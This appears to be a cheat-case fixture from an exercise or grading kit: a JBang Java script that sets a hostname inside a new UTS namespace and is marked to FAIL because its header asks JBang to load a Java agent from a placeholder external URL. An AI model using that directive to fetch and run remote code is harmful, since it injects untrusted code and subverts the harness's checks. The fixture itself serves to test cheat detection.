///usr/bin/env jbang "$0" "$@" ; exit $?
//JAVAAGENT https://example.invalid/agent.jar
//SOURCES ../kit/Exercise.java

import static kit.Libc.*;

import kit.*;

// cheat: C3 | FAIL | Asks JBang for an agent.
class UtsRename {
    public static void main(String[] args) {
        new Exercise("UtsRename").main(args, exercise -> {
            String name = exercise.value("hostname");
            solve(name);
            exercise.ready();
        });
    }

    /** The right answer, for who has found what nobody should. */
    private static void solve(String name) {
        Caller inside = new Caller("inside");
        inside.unshare(CLONE_NEWUTS);
        inside.run(() -> sethostname(name, name.length()));
        inside.another("member");
    }
}
